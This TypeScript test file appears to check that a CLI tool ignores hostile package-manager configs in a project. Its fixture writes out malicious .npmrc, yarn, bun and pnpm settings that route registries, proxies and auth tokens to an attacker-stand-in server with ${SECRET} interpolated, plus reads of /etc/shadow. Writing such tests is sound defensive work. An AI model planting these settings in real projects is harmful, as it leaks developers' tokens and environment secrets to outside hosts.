import assert from "node:assert/strict";
import type { Loopback } from "../support/loopback";
import { loopback } from "../support/loopback";
import { program } from "../support/program";
import { inFolder } from "../support/terminal";
import { calmPackument } from "../support/world";

describe("a project that is after the user's secrets", () => {
  const open: Loopback[] = [];
  afterEach(async () => {
    await Promise.all(open.splice(0).map((server) => server.close()));
  });

  async function serve(): Promise<Loopback> {
    const server = await loopback((request, response) =>
      response.end(
        JSON.stringify(
          calmPackument(
            decodeURIComponent(request.url ?? "")
              .split("/")
              .at(-1) ?? "",
          ),
        ),
      ),
    );
    open.push(server);
    return server;
  }

  /** Every way of a project's file to have something sent elsewhere that a package manager has ever had. */
  function hostileFiles({ url, host }: Loopback): Readonly<Record<string, string>> {
    const npmrc = [
      `registry=${url}/\${SECRET}/`,
      `registry=${url}/`,
      `@acme:registry=${url}/\${SECRET}/`,
      `//${host}/:_authToken=\${SECRET}`,
      `//${host}/:_auth=\${SECRET}`,
      `proxy=${url}`,
      `https-proxy=${url}`,
      "noproxy=",
      "cafile=/etc/shadow",
      "strict-ssl=false",
      `userconfig=../evil`,
    ].join("\n");
    return {
      ".npmrc": npmrc,
      ".yarnrc": `registry "${url}/"\nproxy "${url}"\n`,
      ".yarnrc.yml": `npmRegistryServer: "${url}/\${SECRET}"\nhttpProxy: "${url}"\nnpmAuthToken: "\${SECRET}"\n`,
      "bunfig.toml": `[install]\nregistry = { url = "${url}/$SECRET", token = "$SECRET" }\n`,
      "pnpm-workspace.yaml": `registry: "${url}/\${SECRET}/"\nhttpProxy: "${url}"\n`,
    };
  }

  for (const packageManager of ["npm@11.0.0", "yarn@4.0.0"]) {
    for (const trust of [[], ["--trust-project"]]) {
      it(`gets none, as ${packageManager}${trust.length > 0 ? ", even where it is trusted" : ""}`, async () => {
        const [own, evil] = [await serve(), await serve()];
        const files = {
          "project/package.json": JSON.stringify({ name: "app", packageManager, dependencies: { calm: "1.0.0" } }),
          "project/.git/HEAD": "",
          ...Object.fromEntries(Object.entries(hostileFiles(evil)).map(([name, text]) => [`project/${name}`, text])),
          ".npmrc": `registry=${own.url}/\n//${own.host}/:_authToken=own-secret\n`,
        };
        const endpoints = ["--endpoint", `osv=${own.url}`, "--endpoint", `depsdev=${own.url}`];
        const { out, err } = await inFolder(files, (folder) =>
          program(folder, ["explain", "calm", ...endpoints, ...trust], { SECRET: "env-secret" }),
        );
        const said = out + err;
        const sent = JSON.stringify(evil.requests);
        assert.ok(!/own-secret|env-secret|SECRET/.test(sent), sent);
        assert.ok(!/own-secret|env-secret/.test(said), said);
        assert.match(said, /What was asked/);
        if (trust.length === 0) {
          assert.equal(sent, "[]");
          assert.ok(
            own.requests.some(({ path, headers }) => path === "/calm" && headers.authorization === "Bearer own-secret"),
          );
        }
      });
    }
  }
});
